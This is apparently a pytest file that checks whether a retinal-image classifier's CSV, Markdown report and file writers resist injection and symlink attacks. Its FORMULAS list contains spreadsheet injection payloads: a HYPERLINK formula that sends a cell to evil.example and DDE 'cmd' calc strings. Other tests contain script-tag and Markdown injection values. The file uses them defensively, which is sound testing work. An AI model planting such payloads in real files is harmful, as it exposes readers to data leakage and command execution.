"""Outputs that cannot be turned against their reader: CSV cells no spreadsheet runs as a
formula, a results page whose folder names and config values stay text, and no write through
a symlink planted where the framework writes a file."""

from __future__ import annotations

import csv
import io
import json
import os
import re

import numpy as np
import pytest
import torch
from PIL import Image

from mtcsnn.inference.batch import FAILURE_HEADER, PREDICTION_HEADER, csv_text, predict_inputs
from mtcsnn.losses import PairCrossEntropyLoss
from mtcsnn.models import MTCSNNModule, SiameseResNet
from mtcsnn.writing import create_new, spreadsheet_text, write_atomic, write_text_atomic

# --- CSV cells a spreadsheet would run -------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",  # blanks before the sign: some spreadsheets skip them
    "\uff1d1+1",  # a full-width equals sign
    "-inf",
    "- 1",
    "-1+1",
]
PLAIN = ["eye.png", "photos/left eye, 2.jpg", 'a "quoted" name.png', "line\nbreak.png", "1e.png"]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_text_cell_a_spreadsheet_would_run_gets_a_leading_quote(cell):
    text = csv_text(["input", "reason"], [[cell, f"{cell} could not be read"]])
    (_, row) = read_csv(text)
    assert row[0] == "'" + cell  # shown as text, and nothing of the name lost
    assert row[1].startswith(cell[:1]) or row[1] == "'" + f"{cell} could not be read"
    assert not row[1].lstrip(" \t\r\n").startswith(("=", "+", "-", "@", "\uff1d"))


def test_numbers_stay_numbers_and_plain_names_are_untouched():
    rows = [
        ["eye.png", 2, "0.1", "-0.5", "1e-05", "-3.25e+02", "+0.5", "-0.123456"],
        [*PLAIN[1:3], -1, -0.5, 7, "nan", "0", "-7"],
    ]
    got = read_csv(csv_text(["path", "pred", "a", "b", "c", "d", "e", "f"], rows))
    assert got[1] == ["eye.png", "2", "0.1", "-0.5", "1e-05", "-3.25e+02", "+0.5", "-0.123456"]
    assert got[2] == [*PLAIN[1:3], "-1", "-0.5", "7", "nan", "0", "-7"]
    # commas, quotes and line breaks in names are still quoted by the csv module
    (_, row) = read_csv(csv_text(["path"], [[name] for name in PLAIN][3:4]))
    assert row == ["line\nbreak.png"]


def test_the_rule_is_owasps():
    for cell in FORMULAS:
        assert spreadsheet_text(cell) == "'" + cell
    for cell in [*PLAIN, "-0.5", "+1", "12", "3.5e-3", 1, -2.5, None]:
        assert spreadsheet_text(cell) is cell


@pytest.fixture(scope="module")
def module() -> MTCSNNModule:
    torch.manual_seed(0)
    net = SiameseResNet("resnet18", dropout=None)
    return MTCSNNModule(net, PairCrossEntropyLoss(), optimizer=torch.optim.Adam).eval()


def photo(seed: int) -> Image.Image:
    rng = np.random.default_rng(seed)
    return Image.fromarray(rng.integers(0, 255, (40, 60, 3), dtype=np.uint8))


def test_predict_writes_input_names_that_are_formulas_as_text(module, tmp_path):
    from mtcsnn.predict import write_results

    names = ["=1+1.png", "+SUM(A1).png", "-2+3.png", "@cmd.png", "\tx.png", "ok.png"]
    for i, name in enumerate(names):
        photo(i).save(tmp_path / name)
    (tmp_path / "=broken.png").write_bytes(b"not an image")
    inputs = [str(tmp_path / n) for n in names] + [str(tmp_path / "=broken.png"), "-missing"]
    rows, failures = predict_inputs(module, inputs, 32, torch.device("cpu"), progress=False)
    # names as the first cell, as a spreadsheet sees them: each input's own name
    for row in rows:
        row[0] = os.path.basename(row[0])
    failures = [(os.path.basename(n), why) for n, why in failures]
    out = tmp_path / "out" / "predictions.csv"
    write_results(rows, failures, out)

    predicted = read_csv(out.read_text())
    assert predicted[0] == PREDICTION_HEADER
    by_name = {row[0]: row for row in predicted[1:]}
    assert set(by_name) == {"'" + n for n in names[:-1]} | {"ok.png"}
    for row in predicted[1:]:
        # every number a number, none escaped; refer is empty: no threshold was given
        assert [float(v) for v in row[1:-1]] and row[-1] == ""
    failed = read_csv((tmp_path / "out" / "failures.csv").read_text())
    assert failed[0] == FAILURE_HEADER
    assert {row[0] for row in failed[1:]} == {"'=broken.png", "'-missing"}


def test_the_split_list_beside_a_photo_folder_cache_is_escaped(tmp_path):
    from mtcsnn.data.fundus_folder import FundusFolderDataModule

    arrays = {
        "images": np.zeros((3, 4, 4, 3), dtype=np.uint8),
        "grades": np.array([0, 1, 2]),
        "splits": np.array(["train", "val", "test"]),
        "paths": np.array(["=HYPERLINK(1).png", "ok.png", "@x.png"]),
    }
    cache = tmp_path / "cache.npz"
    FundusFolderDataModule.write_cache(cache, arrays)
    rows = read_csv(cache.with_suffix(".splits.csv").read_text())
    assert rows == [
        ["path", "grade", "split"],
        ["'=HYPERLINK(1).png", "0", "train"],
        ["ok.png", "1", "val"],
        ["'@x.png", "2", "test"],
    ]


# --- results.md ------------------------------------------------------------------------------

EVIL = "| <script>x</script> # heading"


def evil_sweep(root):
    """Two configurations told apart by a value holding Markdown and HTML, one unfinished run
    in a folder of that name, and the sweep folder itself named so."""
    from test_report import write_run

    grades = np.arange(100) % 5
    job = 0
    for augment in ("flip", f"{EVIL}\n# second line *bold* [link](http://e.example) `x`"):
        for loss, skill in (("ce", 0.5), ("mtcsnn", 3.0)):
            for seed in (1, 2):
                folder = root / str(job)
                write_run(folder, loss, seed, grades, skill)
                metrics = json.loads((folder / "metrics.json").read_text())
                metrics["config"]["data"] = {"augment": augment}
                (folder / "metrics.json").write_text(json.dumps(metrics))
                overrides = [f"loss={loss}", f"data.augment={augment}", f"seed={seed}"]
                (folder / ".hydra" / "overrides.yaml").write_text(json.dumps(overrides))
                job += 1
    unfinished = root / f"{EVIL} `run`"
    (unfinished / ".hydra").mkdir(parents=True)
    (unfinished / ".hydra" / "config.yaml").write_text("seed: 4\n")
    return root


def table_rows(text: str, header_start: str) -> list[str]:
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line.startswith(header_start))
    rows = []
    for line in lines[start:]:
        if not line.startswith("|"):
            break
        rows.append(line)
    return rows


def cells(row: str) -> int:
    """The number of columns a Markdown table row has: pipes that are not escaped."""
    return len(re.findall(r"(?<!\\)\|", row)) - 1


def test_results_md_shows_folder_names_and_config_values_as_text(tmp_path):
    from mtcsnn.report import main

    root = evil_sweep(tmp_path / EVIL)
    assert main([str(root), "--bootstrap", "50"]) == 0
    text = (root / "results.md").read_text()
    assert "<script>" not in text and "</script>" not in text
    assert "&lt;script&gt;x&lt;/script&gt;" in text
    # the only headings are the page's own
    headings = [line for line in text.splitlines() if line.lstrip().startswith("#")]
    assert all(re.fullmatch(r"#{1,2} [A-Z][^#]*(\\#[^#]*)*", h) for h in headings), headings
    assert "# second line" not in text.replace("\\# second line", "")
    assert "*bold*" not in text and "[link](" not in text
    # every table keeps its columns
    for header in ("| configuration | seeds | test AUROC", "| configuration | vs |"):
        rows = table_rows(text, header)
        assert len(rows) >= 3
        assert len({cells(row) for row in rows}) == 1, rows
    first = table_rows(text, "| configuration | seeds | test AUROC")
    assert sum(EVIL.replace("|", "\\|").split(" <")[0] in row for row in first) == 2
    # the unfinished run's folder, named as it is once rendered
    skipped = text.split("## Unfinished or unreadable runs")[1]
    assert "\\| &lt;script&gt;x&lt;/script&gt; \\# heading \\`run\\`: unfinished" in skipped


def test_results_md_rendered_has_no_html_headings_links_or_broken_tables(tmp_path):
    """Rendered as a Markdown viewer renders it (CommonMark with tables, raw HTML allowed)."""
    markdown_it = pytest.importorskip("markdown_it")
    from mtcsnn.report import main

    root = evil_sweep(tmp_path / EVIL)
    assert main([str(root), "--bootstrap", "20"]) == 0
    text = (root / "results.md").read_text()
    renderer = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table")
    html = renderer.render(text)
    assert "<script" not in html and "<em>" not in html and "<a " not in html
    headings = re.findall(r"<h(\d)>(.*?)</h\1>", html)
    assert [
        h
        for _, h in headings
        if not h.startswith(
            ("Results: ", "MTCSNN vs", "Seed ", "Chosen ", "Unfinished", "Referring ", "Referable ")
        )
    ] == []
    assert f"Results: {root}".replace("<", "&lt;").replace(">", "&gt;") in html
    for table in re.findall(r"<table>(.*?)</table>", html, re.S):
        rows = re.findall(r"<tr>(.*?)</tr>", table, re.S)
        widths = {row.count("<td") + row.count("<th") for row in rows}
        assert len(widths) == 1, rows
    assert html.count("&lt;script&gt;x&lt;/script&gt;") >= 8


def test_a_dollar_sign_in_a_label_does_not_stop_the_figures(tmp_path):
    from test_report import write_run

    from mtcsnn.report import main

    grades = np.arange(100) % 5
    for job, (augment, seed) in enumerate([(r"$\frac{1}{0$", 1), ("flip", 1), (r"$\frac", 2)]):
        folder = tmp_path / str(job)
        write_run(folder, "ce", seed, grades, 0.5)
        metrics = json.loads((folder / "metrics.json").read_text())
        metrics["config"]["data"] = {"augment": augment}
        (folder / "metrics.json").write_text(json.dumps(metrics))
    assert main([str(tmp_path), "--bootstrap", "20"]) == 0
    assert (tmp_path / "val_curves.png").stat().st_size > 1000


# --- symlinks --------------------------------------------------------------------------------

SECRET = "the user's own file\n"


@pytest.fixture
def outside(tmp_path):
    """A file outside the output folder, that a planted link points to."""
    path = tmp_path / "outside" / "precious.txt"
    path.parent.mkdir()
    path.write_text(SECRET)
    return path


def plant(link, target) -> None:
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target)


def untouched(outside) -> bool:
    return outside.read_text() == SECRET and sorted(outside.parent.iterdir()) == [outside]


def test_write_atomic_replaces_a_planted_link_never_writes_its_target(tmp_path, outside):
    out = tmp_path / "run"
    plant(out / "metrics.json", outside)
    plant(out / "dangling.json", outside.parent / "created_there.txt")
    write_text_atomic(out / "metrics.json", "{}\n")
    write_atomic(out / "dangling.json", lambda f: f.write(b"x"), binary=True)
    assert untouched(outside)
    assert (out / "metrics.json").read_text() == "{}\n" and not (out / "metrics.json").is_symlink()
    assert not (out / "dangling.json").is_symlink()
    assert not list(out.glob(".*.tmp"))


def test_a_new_file_is_never_opened_through_a_link_nor_over_a_file(tmp_path, outside):
    link = tmp_path / "link"
    plant(link, outside)
    dangling = tmp_path / "dangling"
    plant(dangling, tmp_path / "nowhere")
    for path in (link, dangling, outside):
        with pytest.raises(FileExistsError):
            create_new(path)
    assert untouched(outside) and not (tmp_path / "nowhere").exists()


def test_write_atomic_never_uses_a_planted_temporary_name(tmp_path, outside, monkeypatch):
    """Temporary names are drawn at random; one that is taken (here: all but the last draw)
    is skipped, never opened."""
    import mtcsnn.writing as writing

    draws = iter(["aaaa", "bbbb", "cccc"])
    monkeypatch.setattr(writing.secrets, "token_hex", lambda n: next(draws))
    out = tmp_path / "run"
    plant(out / ".metrics.json.aaaa.tmp", outside)
    plant(out / ".metrics.json.bbbb.tmp", outside.parent / "made.txt")
    write_text_atomic(out / "metrics.json", "{}\n")
    assert (out / "metrics.json").read_text() == "{}\n"
    assert untouched(outside)


def test_predict_never_writes_through_links_planted_at_its_outputs(module, tmp_path, outside):
    from mtcsnn.predict import write_results

    out = tmp_path / "out"
    for name in ("predictions.csv", "failures.csv", "INTENDED_USE.txt"):
        plant(out / name, outside)
    photo(0).save(tmp_path / "eye.png")
    rows, failures = predict_inputs(
        module, [str(tmp_path / "eye.png")], 32, torch.device("cpu"), progress=False
    )
    write_results(rows, failures, out / "predictions.csv")
    assert untouched(outside)
    assert "eye.png" in (out / "predictions.csv").read_text()


def test_grad_cam_never_writes_through_a_link_planted_at_an_overlay_name(module, tmp_path, outside):
    from mtcsnn.inference.gradcam import explain_inputs, file_stem

    pytest.importorskip("captum")
    images = tmp_path / "images"
    images.mkdir()
    for name in ("a.png", "b.png"):
        photo(len(name)).save(images / name)
    out = tmp_path / "cams"
    plant(out / f"{file_stem(str(images / 'a.png'))}_gradcam.png", outside)
    plant(out / f"{file_stem(str(images / 'b.png'))}_gradcam.png", outside.parent / "new.png")
    result = explain_inputs(
        module, [str(images)], 32, torch.device("cpu"), out, max_images=4, progress=False
    )
    assert len(result.written) == 2 and not result.failures
    assert untouched(outside)
    for path in result.written:
        assert not path.is_symlink() and path.read_bytes().startswith(b"\x89PNG")


def test_a_dollar_sign_in_a_photographs_name_does_not_stop_grad_cam(module, tmp_path):
    from mtcsnn.inference.gradcam import explain_inputs

    pytest.importorskip("captum")
    photo(1).save(tmp_path / "$\\frac{1}{0$.png")
    result = explain_inputs(
        module, [str(tmp_path)], 32, torch.device("cpu"), tmp_path / "cams", progress=False
    )
    assert len(result.written) == 1 and not result.failures


def test_export_never_writes_through_links_planted_at_the_model_or_its_old_partial_name(
    module, tmp_path, outside
):
    from mtcsnn.inference.export import export_model

    out = tmp_path / "export"
    plant(out / "model.pt", outside)
    plant(out / ".model.pt.partial", outside.parent / "partial.pt")
    export_model(module, 32, "torchscript", out / "model.pt")
    assert untouched(outside)
    assert not (out / "model.pt").is_symlink()
    with torch.no_grad():
        probs, _ = torch.jit.load(str(out / "model.pt"))(
            torch.zeros(1, 3, 32, 32, dtype=torch.uint8)
        )
    assert probs.shape == (1, 5)


def test_the_report_never_writes_through_links_planted_at_its_outputs(tmp_path, outside):
    from test_report import write_run

    from mtcsnn.report import main

    grades = np.arange(100) % 5
    for job, (loss, seed) in enumerate([("ce", 1), ("ce", 2), ("mtcsnn", 1), ("mtcsnn", 2)]):
        write_run(tmp_path / "sweep" / str(job), loss, seed, grades, 1.0)
    out = tmp_path / "sweep"
    for name in ("results.md", "confusion_matrix.png", "roc_curves.png", "val_curves.png"):
        plant(out / name, outside)
    assert main([str(out), "--bootstrap", "20"]) == 0
    assert untouched(outside)
    assert "| loss=ce |" in (out / "results.md").read_text()
